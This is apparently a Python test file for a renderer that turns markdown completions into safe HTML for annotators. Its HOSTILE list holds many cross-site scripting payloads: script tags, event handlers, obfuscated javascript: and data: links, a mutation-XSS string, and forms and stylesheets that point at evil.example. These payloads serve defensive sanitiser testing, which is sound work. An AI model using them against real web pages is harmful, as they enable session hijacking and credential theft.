"""Markdown to safe HTML: what hostile and ordinary completions become."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from common.text.rendering import MARKDOWN_LIMIT, MAX_NESTING, plain_words, render_markdown, render_plain
from tests.common.text.page import Page, assert_harmless

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src='javascript:alert(1)'></iframe><object data=x><embed src=x><base href=//evil.example>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<div style='position:fixed;inset:0' class='topbar' id='left'>over everything</div>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1)) [click](java\tscript:alert(1)) [x](<java\nscript:alert(1)>)",
    "[click](&#106;avascript:alert(1)) [x](&#x6A;avascript&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](vbscript:x) [x](file:///etc/passwd)",
    "<javascript:alert(1)> <data:text/html,x>",
    "![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '[a](https://x.example "\\" onmouseover=alert(1) x=\\"")',
    '![" onerror="alert(1)](https://x.example/"onerror="alert(1))',
    '```"><script>alert(1)</script>\ncode\n```',
    "```x onclick=alert(1) class=y\ncode\n```",
    "`<script>alert(1)</script>`",
    "|<script>|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "<!-- --><script>alert(1)</script> <![CDATA[<script>alert(1)</script>]]> <?php x ?> <!DOCTYPE html>",
    "</div></article></main><h1>outside</h1>",
    "$\\text{</mtext></math><script>alert(1)</script>}$ \\(\\href{javascript:alert(1)}{x}\\)",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$ $$\\unicode{<script>}$$",
    "\\[\\begin{array}{<img src=x onerror=alert(1)>}a\\end{array}\\]",
    "```html\n<script>alert(1)</script><span class='hl-k' onclick=alert(1)>\n```",
    "[in](/campaigns/mine/delete) [here](//evil.example) [there](\\\\evil.example) [q](?x=1) [h](#top)",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>\udfff",
    "‮}⁦if(admin)⁩⁦ ‫text‬",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤" * 50,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_nothing_but_allowed_elements(text: str) -> None:
    assert_harmless(render_markdown(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_shown_plain_has_no_element_but_its_frame(text: str) -> None:
    assert Page(render_plain(text)).elements == [("div", {"class": "plain-text"})]


@given(st.text(alphabet=st.sampled_from("$<>\"'&/=[]()!`*_~#|->:\n\\ \tascript:onimgsrcjdx1"), max_size=200))
def test_no_arrangement_of_special_characters_gets_an_element_through(text: str) -> None:
    assert_harmless(render_markdown(text))


@given(
    st.lists(st.sampled_from([*HOSTILE, "\n", "> ", "- ", "| a | b |\n|-|-|\n", "```\n", "[", "](", ")"]), max_size=8)
)
def test_no_mixture_of_hostile_texts_gets_an_element_through(parts: list[str]) -> None:
    assert_harmless(render_markdown("".join(parts)))


def test_raw_html_is_shown_as_text_for_the_annotator_to_see() -> None:
    page = assert_harmless(render_markdown("Use <b>bold</b> and <!-- a comment -->."))
    assert page.text.strip() == "Use <b>bold</b> and <!-- a comment -->."


def test_links_open_elsewhere_and_tell_nothing_about_where_they_were_found() -> None:
    page = assert_harmless(render_markdown("[the docs](https://example.org/a)"))
    link = {"href": "https://example.org/a", "target": "_blank", "rel": "noopener noreferrer nofollow"}
    assert ("a", link) in page.elements


def test_links_into_our_own_pages_lose_their_address() -> None:
    assert assert_harmless(render_markdown("[a](/x) [b](//evil.example) [c](x) [d](#y)")).links() == []


def test_bare_addresses_are_not_made_into_links() -> None:
    assert assert_harmless(render_markdown("see https://example.org and example.com")).links() == []


def test_an_image_is_a_link_to_it_under_its_alternative_text() -> None:
    page = assert_harmless(render_markdown("![a *red* fox](https://example.org/fox.png)"))
    assert page.links() == ["https://example.org/fox.png"]
    assert page.text.strip() == "[a red fox]"


def test_an_image_in_a_link_is_its_text_in_that_link() -> None:
    page = assert_harmless(render_markdown("[![badge](https://a.example/b.svg)](https://c.example)"))
    assert page.links() == ["https://c.example"]
    assert page.text.strip() == "[badge]"


def test_headings_start_below_those_of_the_page() -> None:
    tags = [tag for tag, _ in assert_harmless(render_markdown("# one\n## two\n###### six\n\nTitle\n===")).elements]
    assert tags == ["h3", "h4", "h6", "h3"]


def test_a_table_keeps_its_alignment_without_an_inline_style() -> None:
    source = render_markdown("| left | right |\n|:---|---:|\n| 1 | 2 |")
    assert_harmless(source)
    assert '<th class="align-left">left</th>' in source
    assert '<td class="align-right">2</td>' in source
    assert "style" not in source


def test_a_code_block_keeps_its_text_and_names_its_language() -> None:
    source = render_markdown('```python\nif a < b:\n    print("<b>")\n```')
    assert Page(source).text.strip() == 'if a < b:\n    print("<b>")'
    assert '<code class="language-python"><span class="hl-k">if</span> a &lt; b:' in source
    assert '<span class="hl-s">"&lt;b&gt;"</span>' in source


@pytest.mark.parametrize("info", ["c++", "c#", "objective-c", "f90"])
def test_odd_but_real_language_names_are_kept(info: str) -> None:
    assert f'class="language-{info}"' in render_markdown(f"```{info}\nx\n```")


def test_a_language_that_is_no_name_is_dropped() -> None:
    assert "class" not in render_markdown("```<script>\nx\n```")


def test_single_line_breaks_stay_line_breaks() -> None:
    assert render_markdown("Roses are red,\nviolets are blue").count("<br>") == 1


def test_guidelines_may_break_their_lines_anywhere() -> None:
    assert "<br" not in render_markdown("One sentence,\non two lines", breaks=False)


def test_strikethrough_and_ordered_lists_with_a_start() -> None:
    assert "<s>no</s>" in render_markdown("~~no~~")
    assert '<ol start="3">' in render_markdown("3. a\n4. b")


def test_reference_definitions_stay_visible() -> None:
    assert "[1]: https://example.org" in Page(render_markdown("As said [1].\n\n[1]: https://example.org")).text


@given(st.lists(st.text(alphabet="abcdefgh", min_size=1, max_size=8), min_size=1, max_size=20))
def test_no_word_of_ordinary_text_disappears(words: list[str]) -> None:
    for text in (" ".join(words), "\n".join(f"- {word}" for word in words), "\n\n> ".join(words)):
        assert Page(render_markdown(text)).text.split() == words


def test_what_lies_too_deep_for_markdown_is_shown_as_plain_text_and_not_dropped() -> None:
    text = ">" * MAX_NESTING + " deep\n\n" + "- " * MAX_NESTING + "deeper"
    page = Page(render_markdown(text))
    assert page.text == text
    assert page.elements == [("div", {"class": "plain-text"})]


def test_nesting_that_fits_is_rendered() -> None:
    assert [tag for tag, _ in Page(render_markdown(">" * 10 + " fine")).elements].count("blockquote") == 10


def test_a_very_long_text_is_shown_as_plain_text() -> None:
    text = "*word* " * (MARKDOWN_LIMIT // 6)
    assert Page(render_markdown(text)).text == text


def test_text_in_any_script_comes_through() -> None:
    for text in ("你好，世界。", "שלום עולם", "नमस्ते दुनिया", "👩‍👩‍👧‍👦 🏳️‍🌈", "e\u0301"):
        assert Page(render_markdown(text)).text.strip() == text


def test_an_empty_text_is_empty() -> None:
    assert render_markdown("") == ""


PATHOLOGICAL = {
    "brackets": "[",
    "images": "![",
    "half links": "[a](",
    "angled links": "[a](<b",
    "emphasis": "*a_ ",
    "strong": "**a *b ",
    "backticks": "`a",
    "quotes": ">",
    "quote lines": "> a\n",
    "lists in lists": "- ",
    "list lines": "- a\n\n",
    "fences": "```\n",
    "tables": "|x|y|\n|-|-|\n",
    "ampersands": "&",
    "angles": "<http:",
    "comments": "<!--",
    "backslashes": "\\",
    "line breaks": "\n",
    "headings": "# a\n",
    "definitions": "[a]: b\n",
    "formulas": "$a$ ",
    "opened formulas": "\\(",
    "opened blocks": "\\[\n",
    "dollars": "$",
    "dollar lines": "$$\n",
    "environments": "\\begin{align}\n",
}


@pytest.mark.parametrize("piece", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
@pytest.mark.timeout(60)
def test_the_size_of_the_result_is_bounded_by_the_size_of_the_text(piece: str) -> None:
    text = (piece * MARKDOWN_LIMIT)[:MARKDOWN_LIMIT]
    result = render_markdown(text)
    assert_harmless(result)
    assert len(result) < 20 * len(text)


def test_a_small_table_cannot_become_a_huge_one() -> None:
    columns = 1000
    text = "|a" * columns + "\n" + "|-" * columns + "\n" + "|a\n" * 1000
    result = render_markdown(text)
    assert len(result) < 5 * len(text)
    assert Page(result).text == text


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("**Bold** and\n`code`", "Bold and code"),
        ("# Title\n\n- one\n- *two*", "Title one two"),
        ("```python\nprint(1)\n```", "print(1)"),
        ("2 * 3 * 4 <b>", "2 * 3 * 4 <b>"),
        ("", ""),
    ],
)
def test_a_text_in_a_list_is_named_by_its_words(text: str, words: str) -> None:
    assert plain_words(text) == words
